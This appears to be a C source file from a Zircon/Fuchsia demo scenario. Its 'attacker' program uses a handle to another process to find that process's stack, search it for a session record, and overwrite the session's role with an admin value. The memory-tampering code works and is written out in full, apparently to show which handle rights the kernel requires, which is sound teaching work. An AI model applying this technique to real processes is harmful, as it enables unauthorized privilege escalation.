/* attacker.c — the memory_patch scenario's attacker: a "watchdog" that
 * turns a handle to another process into a debugger's power over it.
 *
 * Steps (each printed): 1. take the victim's process handle from the
 * message on its channel (startup handle 0) and look at its rights;
 * 2. list the victim's mappings (ZX_INFO_PROCESS_MAPS, needs INSPECT) and
 * pick "initial-thread", its first thread's stack; 3. read that stack from
 * its top down with zx_process_read_memory (needs READ and WRITE) looking
 * for the session's tag; 4. write PATCH_ROLE_ADMIN over the session's role
 * with zx_process_write_memory (needs WRITE, and debugging syscalls
 * switched on in the kernel). When the read is refused it still tries the
 * write, at the lowest word of the stack (a probe: no session is there),
 * to show what the kernel answers. Nothing printed depends on host
 * addresses: stacks lie at the same address in every run.
 * Returns 0 when the role was written, 1 when a step was refused, 2 when
 * it could not get started.
 */
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <zircon/process.h>
#include <zircon/processargs.h>
#include <zircon/status.h>
#include <zircon/syscalls.h>
#include <zircon/syscalls/object.h>

#include "actor.h"
#include "patch.h"

#define ATTACKER_MAPS 64
#define ATTACKER_CHUNK 4096

/* Step 1: the process handle the launcher sent. */
static zx_handle_t attacker_take_victim(void)
{
    zx_handle_t ch = zx_take_startup_handle(PA_HND(PA_USER0, 0)), victim = ZX_HANDLE_INVALID;
    char msg[16];
    uint32_t bytes = 0, handles = 0;
    if (zx_object_wait_one(ch, ZX_CHANNEL_READABLE, ZX_TIME_INFINITE, NULL) != ZX_OK ||
        zx_channel_read(ch, 0, msg, &victim, sizeof msg, 1, &bytes, &handles) != ZX_OK ||
        handles != 1)
        victim = ZX_HANDLE_INVALID;
    zx_handle_close(ch);
    return victim;
}

/* Step 2: the victim's "initial-thread" mapping. */
static zx_status_t attacker_find_stack(zx_handle_t victim, zx_info_maps_t *stack)
{
    static zx_info_maps_t maps[ATTACKER_MAPS];
    size_t count = 0, avail = 0;
    zx_status_t s = zx_object_get_info(victim, ZX_INFO_PROCESS_MAPS, maps, sizeof maps,
                                       &count, &avail);
    if (s != ZX_OK)
        return s;
    for (size_t i = 0; i < count; i++)
        if (maps[i].type == ZX_INFO_MAPS_TYPE_MAPPING && !strcmp(maps[i].name, "initial-thread")) {
            *stack = maps[i];
            return ZX_OK;
        }
    return ZX_ERR_NOT_FOUND;
}

/* Step 3: the session's address, searching the stack from its top down. */
static zx_status_t attacker_find_session(zx_handle_t victim, const zx_info_maps_t *stack,
                                         zx_vaddr_t *at, struct patch_session *found)
{
    static char buf[ATTACKER_CHUNK];
    size_t chunks = stack->size / ATTACKER_CHUNK;
    for (size_t c = 0; c < chunks; c++) {
        zx_vaddr_t base = stack->base + (chunks - 1 - c) * ATTACKER_CHUNK;
        size_t got = 0;
        zx_status_t s = zx_process_read_memory(victim, base, buf, sizeof buf, &got);
        if (s != ZX_OK)
            return s;
        for (size_t i = 0; i + sizeof *found <= got; i += 4)
            if (!memcmp(buf + i, PATCH_TAG, sizeof found->tag)) {
                memcpy(found, buf + i, sizeof *found);
                *at = base + i;
                return ZX_OK;
            }
    }
    return ZX_ERR_NOT_FOUND;
}

/* Step 4: write the role (at `at`, the session's address). */
static zx_status_t attacker_write_role(zx_handle_t victim, zx_vaddr_t at)
{
    uint32_t admin = PATCH_ROLE_ADMIN;
    size_t put = 0;
    return zx_process_write_memory(victim, at + offsetof(struct patch_session, role), &admin,
                                   sizeof admin, &put);
}

int patch_attacker_main(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    zx_handle_t victim = attacker_take_victim();
    zx_info_handle_basic_t basic;
    if (victim == ZX_HANDLE_INVALID ||
        zx_object_get_info(victim, ZX_INFO_HANDLE_BASIC, &basic, sizeof basic, NULL, NULL) != ZX_OK)
        return 2;
    char names[256];
    printf("attacker: my handle to the victim's process has rights %s (READ %s, WRITE %s)\n",
           actor_rights(basic.rights, names, sizeof names), (basic.rights & ZX_RIGHT_READ) ? "yes" : "no",
           (basic.rights & ZX_RIGHT_WRITE) ? "yes" : "no");
    zx_info_maps_t stack;
    zx_status_t s = attacker_find_stack(victim, &stack);
    printf("attacker: list the victim's mappings: %s\n", zx_status_get_string(s));
    if (s != ZX_OK)
        return 1;
    struct patch_session session;
    zx_vaddr_t at = 0;
    s = attacker_find_session(victim, &stack, &at, &session);
    printf("attacker: read the victim's stack: %s\n", zx_status_get_string(s));
    if (s == ZX_OK) {
        printf("attacker: found its session at %#lx: user %u, role %u\n", (unsigned long)at,
               (unsigned)session.uid, (unsigned)session.role);
    } else {
        at = stack.base - offsetof(struct patch_session, role); /* the probe */
        printf("attacker: probing a write at the bottom of its stack instead\n");
    }
    zx_status_t w = attacker_write_role(victim, at);
    printf("attacker: write role = ADMIN (%u) into the victim: %s\n", PATCH_ROLE_ADMIN,
           zx_status_get_string(w));
    zx_handle_close(victim);
    return s == ZX_OK && w == ZX_OK ? 0 : 1;
}
